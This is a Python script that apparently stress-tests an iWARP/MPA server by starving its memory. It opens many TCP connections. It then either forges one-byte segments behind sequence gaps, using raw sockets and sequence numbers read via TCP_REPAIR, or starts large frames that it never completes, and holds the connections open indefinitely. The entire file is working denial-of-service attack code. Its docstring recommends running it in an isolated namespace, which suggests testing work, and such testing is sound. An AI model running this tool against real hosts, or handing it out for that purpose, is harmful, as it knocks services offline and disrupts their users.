"""starve.py gaps|fpdus HOST PORT COUNT EACH [--request REGION]: opens COUNT connections, with --request
requests the region on each, and then

gaps   sends EACH segments of one byte behind a gap on each connection, one connection after the other
fpdus  starts an FPDU of 64 KiB on each connection with EACH segments of 100 bytes, and never completes it

Prints the time taken, and keeps the connections open until it is ended. The segments behind gaps bypass the kernel's
TCP: run it in a namespace without TCP timestamps (net.ipv4.tcp_timestamps=0), whose only other host is HOST."""

import ipaddress
import resource
import socket
import struct
import sys
import time

pattern, host, port, count, each = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
region = sys.argv[7].encode() if "--request" in sys.argv else None
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
REPLY = 20 + 32
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, RECV_QUEUE, SEND_QUEUE = 19, 20, 21, 1, 2


def connect():
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = socket.socket(family)
    if pattern == "fpdus":
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 100)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(10)
    sock.connect((host, port))
    if region is not None:
        private = b"IWR1" + bytes([3, len(region), 0, 0]) + region
        sock.sendall(b"MPA ID Req Frame" + struct.pack(">BBH", 0x40, 1, len(private)) + private)
        reply = b""
        while len(reply) < REPLY and (more := sock.recv(REPLY - len(reply))):
            reply += more
        assert reply[:16] == b"MPA ID Rep Frame" and len(reply) == REPLY and reply[24] == 0, "not granted"
    return sock


def numbers(sock):
    """Reads SND.NXT and RCV.NXT through the kernel's interface for connection migration (TCP_REPAIR)."""
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    told = []
    for queue in (SEND_QUEUE, RECV_QUEUE):
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        told.append(sock.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF)
    # -1: leaves repair mode without a window probe.
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1)
    return told


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def send_behind_gaps(socks):
    raw = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    source, target = (ipaddress.ip_address(name) for name in (socks[0].getsockname()[0], host))
    length = struct.pack(">I", 21) if target.version == 6 else struct.pack(">H", 21)
    pseudo = source.packed + target.packed + (length + b"\0\0\0\6" if target.version == 6 else b"\0\6" + length)
    for sock in socks:
        nxt, acked = numbers(sock)
        ours = sock.getsockname()[1]
        for n in range(1, each + 1):
            seq = (nxt + 2 * n) & 0xFFFFFFFF
            header = struct.pack(">HHIIBBHHH", ours, port, seq, acked, 5 << 4, 0x10, 65535, 0, 0)
            total = struct.pack(">H", checksum(pseudo + header + b"x"))
            while True:
                try:
                    raw.sendto(header[:16] + total + header[18:] + b"x", (host, 0))
                    break
                except BlockingIOError:
                    time.sleep(0.001)
                except OSError as error:
                    # The interface's queue is full.
                    if error.errno != 105:
                        raise
                    time.sleep(0.001)


def begin_fpdus(socks):
    begun = (struct.pack(">H", 65000) + bytes([0xC1, 0x40]) + bytes(100))[:100]
    for n in range(each):
        for sock in socks:
            sock.sendall(begun if n == 0 else bytes(100))


held = [connect() for _ in range(count)]
print("all are open", flush=True)
time.sleep(0.5)
begin = time.monotonic()
(send_behind_gaps if pattern == "gaps" else begin_fpdus)(held)
print(f"{count} connections, {each} segments each, in {time.monotonic() - begin:.1f} s", flush=True)
while True:
    time.sleep(60)
